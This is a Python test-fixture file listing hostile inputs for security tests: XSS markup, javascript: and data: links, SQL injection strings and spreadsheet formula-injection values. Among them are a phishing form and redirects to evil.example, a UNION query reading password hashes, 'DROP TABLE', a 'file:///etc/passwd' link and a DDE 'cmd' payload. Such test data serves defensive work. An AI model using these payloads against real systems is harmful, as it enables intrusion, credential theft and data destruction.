"""Texts that try to become something else than text."""

import os

import pytest

#: Markup, in the spellings that have got past filters: mutations by parsers, foreign content, broken tags, other alphabets, templates, directions.
MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    '" style="background:url(//evil.example)" x="',
    "</textarea><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action=//evil.example><input name=password><button>로그인</button></form>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<a href=javascript:alert(1)>x</a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    "＜script＞alert(1)＜/script＞ ‹img src=x› \u003cscript\u003e",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %} {{config}} {{''.__class__}}",
    "\u202e<b>gpj.exe\u2066",
    "]]><![CDATA[<img src=x onerror=alert(1)>",
    "`${alert(1)}` --> \u2028alert(1)//",
)
#: Where a link may not lead, as Markdown and as an address.
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "javascript://example.kr/%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zy8+",
    "//evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "file:///etc/passwd",
    "blob:https://x/1",
    'https://x.kr/"onmouseover="alert(1)',
    "https://x.kr/' onmouseover='alert(1)",
    "https://x.kr/<script>",
    "ｊavascript:alert(1)",
)
#: What a database could be made to read as a command, or stumble over.
SQL = (
    "' OR '1'='1",
    '" OR 1=1 --',
    "1; DROP TABLE queries; --",
    "') UNION SELECT name, password_hash FROM operators --",
    "1 AND (SELECT COUNT(*) FROM sqlite_master) > 0",
    "1' AND pg_sleep(5) --",
    "\\'; SELECT 1; --",
    "%' ESCAPE '!' --",
    "%_%",
    "\0' OR 1=1",
    "ʼ OR 1=1",
    "99999999999999999999",
)
#: Beginnings that a spreadsheet takes for a formula.
FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=cmd|'/c calc'!A0",
    "\0=1",
    '"=1"',
    "’=1",
    "\u3000=1",
    "\ufeff=1",
    "\u200b=1",
)


def missing(what: str) -> None:
    """Skips for want of something; where everything must be there, fails."""
    if os.environ.get("CI") == "true":
        pytest.fail(what)
    pytest.skip(what)
